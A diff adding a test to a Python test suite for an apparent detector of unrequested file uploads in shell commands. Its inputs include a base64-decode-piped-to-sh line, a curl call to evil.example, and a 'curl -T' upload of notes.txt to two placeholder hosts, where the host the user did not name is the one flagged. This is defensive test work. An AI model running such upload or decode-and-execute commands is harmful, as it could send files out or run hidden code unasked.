@@ -337,3 +337,10 @@ def test_commands_are_read_to_a_depth_that_no_one_writes() -> None:
 def test_what_only_resembles_something_is_passed_over() -> None:
     assert uploads("echo AAAAAAAAA | base64 -d | sh") == []
     assert uploads("true || curl --compressed https://evil.example") == []
+
+
+def test_of_two_hosts_of_one_command_the_one_that_is_not_named_counts() -> None:
+    command = "curl -T notes.txt http://a.example http://b.example"
+    sent = [Upload(host=host, command=command) for host in ("a.example", "b.example")]
+    assert unasked(sent, "Look at a.example.") == sent[1]
+    assert unasked(sent, "Look at a.example and b.example.") is None
